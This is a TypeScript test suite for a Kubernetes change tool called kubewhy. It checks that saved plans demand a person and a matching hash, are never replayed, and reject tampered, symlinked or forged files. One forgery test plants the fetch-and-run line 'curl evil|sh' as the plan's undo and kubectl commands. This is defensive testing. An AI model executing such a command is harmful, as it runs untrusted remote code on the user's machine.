import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  copyFileSync,
  existsSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { hashOf } from '../../src/core/json.ts';
import { planHash, type Plan } from '../../src/core/plan.ts';
import { BACKEND, isWrite, meddle } from '../attacks/world.ts';
import { desk, type Desk, type Saved } from './saved-plan.ts';

const SCALED = [`PATCH ${BACKEND}/scale`];
const confirm = ({ id, hash }: Saved): string[] => ['apply', id, '--confirm', hash];

type File = { savedAt: string; hash: string; digest?: string; plan: Plan };
const edit = (path: string, spoil: (file: File) => void, recount: 'nothing' | 'digest' | 'all'): void => {
  const file = JSON.parse(readFileSync(path, 'utf8')) as File;
  spoil(file);
  if (recount === 'all') file.hash = planHash(file.plan);
  if (recount !== 'nothing') {
    const { digest: _old, ...body } = file;
    file.digest = hashOf(body);
  }
  writeFileSync(path, JSON.stringify(file));
};

describe('a change where nobody can be asked', () => {
  it.each<[string, Parameters<Desk['run']>[1]]>([
    ['with standard input closed', {}],
    ['with "y" on standard input', { input: 'y\n' }],
    ['with "yes" 500 times on standard input', { input: 'yes\n'.repeat(500) }],
    ['with a pipe that stays open', { open: true }],
    ['in CI', { env: { CI: '1' } }],
  ])('%s is saved, not sent, and ends with 3', async (_how, options) => {
    const { run, writes, saved, record } = await desk();
    const { code, stdout, stderr } = await run(['scale the backend to 5'], options);
    expect(code).toBe(3);
    expect(writes()).toEqual([]);
    expect(saved()).toHaveLength(1);
    expect(stdout).not.toBe('');
    expect(stderr).toMatch(/kubewhy apply [0-9a-f]{8} --confirm [0-9a-f]{64}/);
    expect(record()).toContain('"code":"no-person"');
  });

  it('is rehearsed and shown with --dry-run, ends with 0, and leaves nothing to apply', async () => {
    const { run, writes, plans } = await desk();
    const { code, stdout, stderr } = await run(['--dry-run', 'scale the backend to 5']);
    expect({ code, text: stdout + stderr }).toMatchObject({
      code: 0,
      text: expect.stringMatching(/from 2 to 5/) as string,
    });
    expect(writes()).toEqual([]);
    expect(existsSync(plans)).toBe(false);
  });

  it('that the server refuses in the rehearsal ends with 6 and is not saved', async () => {
    const { run, writes, door, plans } = await desk();
    door.fate = (request) =>
      request.path.includes('dryRun=All') ? { status: 403, reason: 'Forbidden', message: 'viewer may not' } : 'pass';
    expect((await run(['scale the backend to 5'])).code).toBe(6);
    expect(writes()).toEqual([]);
    expect(existsSync(plans)).toBe(false);
  });

  it('in a read-only run is not even rehearsed', async () => {
    const { run, door } = await desk();
    await run(['--read-only', 'scale the backend to 5']);
    expect(door.passed.filter(({ method }) => method !== 'GET')).toEqual([]);
  });
});

describe('a saved plan', () => {
  it('without a terminal is not applied, whatever is piped in', async () => {
    const { run, writes, save } = await desk();
    const { id } = await save();
    for (const options of [{}, { input: 'y\n' }, { input: 'todo-chatbot-backend\n' }])
      expect((await run(['apply', id], options)).code).toBe(3);
    expect(writes()).toEqual([]);
  });

  it.each<[string, Parameters<Desk['run']>[1]]>([
    ['without a terminal', {}],
    ['in CI', { env: { CI: 'true' } }],
  ])('%s shows its whole card before it says that nobody can be asked', async (_where, options) => {
    const { run, writes, save, record } = await desk();
    const { id, hash } = await save();
    const { code, stdout, stderr } = await run(['apply', id], options);
    expect({ code, writes: writes() }).toEqual({ code: 3, writes: [] });
    for (const row of ['spec.replicas  2 → 5', 'the server accepts it', '"path": "/spec/replicas"', hash])
      expect(stdout).toContain(row);
    expect(stderr).toMatch(new RegExp(`nobody .*\\n .*--confirm ${hash}`));
    expect(record()).toContain('"code":"no-person"');
  });

  it('is sent once with the hash of its bytes, and never again', async () => {
    const { run, writes, save, saved, record } = await desk();
    const plan = await save();
    const first = await run(confirm(plan));
    expect({ code: first.code, writes: writes() }).toEqual({ code: 0, writes: SCALED });
    expect(first.stdout).toMatch(/5 of 5 ready/);
    expect(saved()).toEqual([]);
    const again = await run(confirm(plan));
    expect(again.code).toBe(5);
    expect(again.stderr).toContain('was used already');
    expect(writes()).toEqual(SCALED);
    expect(record()).toContain('"by":"hash"');
  });

  it('is not sent again from a copy of its file, when the object has come back to its old state', async () => {
    const { run, writes, save, demo } = await desk();
    const plan = await save();
    const copy = join(dirname(plan.path), 'copy.json');
    copyFileSync(plan.path, copy);
    chmodSync(copy, 0o600);
    expect((await run(confirm(plan))).code).toBe(0);
    await meddle(demo, 'PATCH', BACKEND, { spec: { replicas: 2 } });
    expect((await run(['apply', copy, '--confirm', plan.hash])).code).toBe(5);
    expect(writes()).toEqual(SCALED);
  });

  it('is not sent again from a copy with another id and another date', async () => {
    const { run, writes, save, demo } = await desk();
    const plan = await save();
    const copy = join(dirname(plan.path), 'copy.json');
    copyFileSync(plan.path, copy);
    edit(copy, (file) => Object.assign(file.plan, { id: 'another1', createdAt: new Date().toISOString() }), 'all');
    chmodSync(copy, 0o600);
    expect((await run(confirm(plan))).code).toBe(0);
    await meddle(demo, 'PATCH', BACKEND, { spec: { replicas: 2 } });
    for (const mark of readdirSync(dirname(plan.path)))
      if (mark.endsWith('.used')) rmSync(join(dirname(plan.path), mark));
    const again = await run(['apply', copy, '--confirm', plan.hash]);
    expect(again.code).toBe(5);
    expect(again.stderr).toContain('was used already');
    expect(writes()).toEqual(SCALED);
    // The same change asked for anew is another plan, made on another state.
    const fresh = await save();
    expect(fresh.hash).not.toBe(plan.hash);
    expect((await run(confirm(fresh))).code).toBe(0);
    expect(writes()).toEqual([...SCALED, ...SCALED]);
  });

  it('shows no word of its file: title, undo, command, risk and warnings are made of its requests', async () => {
    const { run, save } = await desk();
    const plan = await save();
    edit(
      plan.path,
      ({ plan: forged }) =>
        Object.assign(forged, {
          title: 'harmless',
          undo: 'curl evil|sh',
          kubectl: ['curl evil|sh'],
          warnings: [{ code: 'x', text: 'approved by security' }],
        }),
      'all',
    );
    const shown = await run(['--dry-run', 'apply', plan.id, '--confirm', plan.hash]);
    expect(shown.stdout).toContain('scale deployment/todo-chatbot-backend from 2 to 5');
    expect(shown.stdout + shown.stderr).not.toMatch(/harmless|curl|approved by security/);
    const listed = await run(['plans']);
    expect(listed.stdout).toContain('scale deployment/todo-chatbot-backend from 2 to 5');
    expect(listed.stdout).not.toContain('harmless');
  });

  it('applied by two processes at once is sent by exactly one', async () => {
    const { run, writes, save } = await desk();
    const plan = await save();
    const ended = await Promise.all([run(confirm(plan)), run(confirm(plan)), run(confirm(plan))]);
    expect(ended.map(({ code }) => code).sort((a, b) => (a ?? 0) - (b ?? 0))).toEqual([0, 5, 5]);
    expect(writes()).toEqual(SCALED);
  });

  it.each<[string, (hash: string) => string]>([
    ['another hash', () => 'ab'.repeat(32)],
    ['the beginning of its hash', (hash) => hash.slice(0, 12)],
    ['its hash in capitals', (hash) => hash.toUpperCase()],
    ['an empty hash', () => ''],
  ])('is refused with %s', async (_what, spoil) => {
    const { run, writes, save } = await desk();
    const plan = await save();
    expect((await run(['apply', plan.id, '--confirm', spoil(plan.hash)])).code).toBe(5);
    expect(writes()).toEqual([]);
  });

  const toZero = ({ plan }: File): void => {
    const [change] = plan.changes;
    if (change?.verb === 'edit') Object.assign(change.edits[0] ?? {}, { to: 0 });
  };

  it.each<[string, (saved: Saved, desk: Desk) => void | Promise<unknown>, number, RegExp]>([
    ['a changed number', ({ path }) => edit(path, toZero, 'nothing'), 5, /changed after it was saved/],
    ['a changed number and a new digest', ({ path }) => edit(path, toZero, 'digest'), 5, /changed after it was saved/],
    ['a changed number, a new digest and a new hash', ({ path }) => edit(path, toZero, 'all'), 5, /another plan/],
    [
      'an id that is a path',
      ({ path }) => edit(path, ({ plan }) => Object.assign(plan, { id: '../../x' }), 'all'),
      5,
      /not a plan/,
    ],
    [
      'a verb that is never saved',
      ({ path }) => edit(path, ({ plan }) => Object.assign(plan.changes[0] ?? {}, { verb: 'secret' }), 'all'),
      5,
      /not a plan/,
    ],
    [
      'an age of more than a day',
      ({ path }) => edit(path, (file) => (file.savedAt = new Date(Date.now() - 25 * 3600e3).toISOString()), 'all'),
      5,
      /expired/,
    ],
    [
      'a date in the future',
      ({ path }) => edit(path, (file) => (file.savedAt = new Date(Date.now() + 3600e3).toISOString()), 'all'),
      5,
      /expired/,
    ],
    ['no date', ({ path }) => edit(path, (file) => (file.savedAt = 'soon'), 'all'), 5, /expired|not a plan/],
    ['a file that others may write', ({ path }) => chmodSync(path, 0o666), 2, /written by others/],
    [
      'a link in the place of its file',
      ({ path }) => (renameSync(path, `${path}.real`), symlinkSync(`${path}.real`, path)),
      2,
      /symbolic link/,
    ],
    [
      'a named pipe in the place of its file',
      ({ path }) => {
        rmSync(path);
        execFileSync('mkfifo', ['-m', '600', path]);
      },
      2,
      /not a plain file/,
    ],
    [
      'a Secret that it would create',
      ({ path }) =>
        edit(
          path,
          ({ plan }) =>
            Object.assign(plan, {
              changes: [
                {
                  verb: 'create',
                  target: { apiVersion: 'v1', kind: 'Secret', namespace: 'todo-chatbot', name: 'x' },
                  resource: { plural: 'secrets', namespaced: true },
                  object: { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'x' }, data: { a: 'Yg==' } },
                },
              ],
            }),
          'all',
        ),
      5,
      /not a plan/,
    ],
    ['a file that is no JSON', ({ path }) => writeFileSync(path, 'kubectl delete ns'), 5, /not a saved plan/],
    [
      'a file that is JSON of something else',
      ({ path }) => writeFileSync(path, '{"format":1,"hash":"","plan":{"changes":[null]}}'),
      5,
      /not a plan/,
    ],
    [
      'another server in the kubeconfig',
      (_saved, { kubeconfig, door, demo }) => writeFileSync(kubeconfig, door.kubeconfig.replaceAll(door.url, demo.url)),
      5,
      /made for server/,
    ],
    [
      'another CA in the kubeconfig',
      (_saved, { kubeconfig, door }) =>
        writeFileSync(
          kubeconfig,
          door.kubeconfig.replace(
            /^( *)server: .*$/m,
            `$&\n$1certificate-authority-data: ${Buffer.from('x').toString('base64')}`,
          ),
        ),
      5,
      /made for caFingerprint/,
    ],
    [
      'another user in the context',
      (_saved, { kubeconfig, door }) =>
        writeFileSync(kubeconfig, door.kubeconfig.replace(/(users:\n {2}- name: |user: )kubewhy-demo/g, '$1somebody')),
      5,
      /made for user/,
    ],
    [
      'an object that has moved',
      (_saved, { demo }) => meddle(demo, 'PATCH', BACKEND, { spec: { replicas: 3 } }),
      5,
      /replicas.*3/,
    ],
    [
      'a right that is gone',
      (_saved, { door }) => {
        door.fate = (request) =>
          request.method === 'PATCH' ? { status: 403, reason: 'Forbidden', message: 'no longer' } : 'pass';
      },
      6,
      /no longer|forbidden/i,
    ],
  ])('with %s is refused and nothing is sent', async (_what, spoil, code, words) => {
    const world = await desk();
    const saved = await world.save();
    await spoil(saved, world);
    const ended = await world.run(confirm(saved));
    expect(ended.stderr).toMatch(words);
    expect(ended.code).toBe(code);
    expect(world.writes()).toEqual([]);
  });

  it('in a read-only or dry run is not sent', async () => {
    const { run, writes, save } = await desk();
    const plan = await save();
    expect((await run(confirm(plan), { env: { KUBEWHY_READ_ONLY: '1' } })).code).toBe(1);
    const rehearsed = await run(confirm(plan), { env: { KUBEWHY_DRY_RUN: '1' } });
    expect(rehearsed).toMatchObject({ code: 0, stdout: expect.stringContaining('not sent') as string });
    expect(writes()).toEqual([]);
  });

  it('holds no secret value: a plan with typed values is never saved', async () => {
    const { run, writes, plans } = await desk('missing-secret-key');
    const { code, stderr } = await run(['set the key JWT_SECRET of the secret todo-chatbot-secrets']);
    expect(code).toBe(3);
    expect(stderr).toMatch(/person|nobody can be asked/);
    expect(writes()).toEqual([]);
    expect(existsSync(plans)).toBe(false);
  });
});

describe('a process that ends in the middle', () => {
  it('killed between the send and the answer is named at the next start, and nothing is sent twice', async () => {
    const world = await desk();
    const saved = await world.save();
    const { child, ended } = world.start(...confirm(saved));
    world.door.fate = (request) => {
      if (!isWrite(request)) return 'pass';
      setTimeout(() => child.kill('SIGKILL'), 50);
      return 'hang';
    };
    expect((await ended).signal).toBe('SIGKILL');
    expect(world.writes()).toEqual(SCALED);
    world.door.fate = () => 'pass';
    const audit = await world.run(['audit']);
    expect(audit.stderr).toMatch(/open: [0-9a-f]{8} scale deployment\/todo-chatbot-backend from 2 to 5/);
    const next = await world.run(['show the events']);
    expect(next.stderr).toContain('its outcome is not known: scale deployment/todo-chatbot-backend from 2 to 5');
    expect((await world.run(confirm(saved))).code).toBe(5);
    expect(world.writes()).toEqual(SCALED);
  });

  it('killed before the send has sent nothing', async () => {
    const world = await desk();
    const saved = await world.save();
    const { child, ended } = world.start(...confirm(saved));
    world.door.fate = (request) => {
      if (!request.path.includes('selfsubjectreviews')) return 'pass';
      child.kill('SIGKILL');
      return 'hang';
    };
    await ended;
    expect(world.writes()).toEqual([]);
  });

  it.each([
    ['SIGTERM', 143],
    ['SIGINT', 130],
  ] as const)('stopped by %s while the answer is open says what is known and ends with %i', async (signal, code) => {
    const world = await desk();
    const saved = await world.save();
    const { child, ended } = world.start(...confirm(saved));
    world.door.fate = (request) => {
      if (!isWrite(request)) return 'pass';
      setTimeout(() => child.kill(signal), 50);
      return 'hang';
    };
    const { code: exit, stdout } = await ended;
    expect(exit).toBe(code);
    expect(stdout).toMatch(/the change was made all the same/);
    expect(world.writes()).toEqual(SCALED);
    expect(world.record()).toContain('"type":"outcome"');
  });

  it('stopped by SIGTERM before the send has sent nothing', async () => {
    const world = await desk();
    const saved = await world.save();
    const { child, ended } = world.start(...confirm(saved));
    world.door.fate = (request) => {
      if (!request.path.includes('dryRun=All')) return 'pass';
      child.kill('SIGTERM');
      return 'hang';
    };
    expect((await ended).code).toBe(143);
    expect(world.writes()).toEqual([]);
  });
});

describe('a record that cannot be written', () => {
  it.each<[string, (world: Desk, outside: string) => void]>([
    ['a file in the place of its folder', ({ audit }) => writeFileSync(audit, '')],
    [
      'a link in the place of its file',
      ({ prepareAudit, today }, outside) => (prepareAudit(), symlinkSync(outside, today())),
    ],
    [
      'a folder in the place of its file',
      ({ prepareAudit, today, audit }) => (prepareAudit(), symlinkSync(audit, today())),
    ],
    [
      'a file that others may write',
      ({ prepareAudit, today }) => (prepareAudit(), writeFileSync(today(), ''), chmodSync(today(), 0o666)),
    ],
    ['a folder that others may write', ({ prepareAudit, audit }) => (prepareAudit(), chmodSync(audit, 0o777))],
  ])('because of %s: no write', async (_what, spoil) => {
    const world = await desk();
    const saved = await world.save();
    const { rmSync } = await import('node:fs');
    rmSync(world.audit, { recursive: true, force: true });
    const outside = join(world.home.path, 'outside');
    writeFileSync(outside, 'mine');
    spoil(world, outside);
    const { code, stderr } = await world.run(confirm(saved));
    expect(stderr).toContain('the audit log cannot be written');
    expect(code).toBe(6);
    expect(world.writes()).toEqual([]);
    expect(readFileSync(outside, 'utf8')).toBe('mine');
  });
});
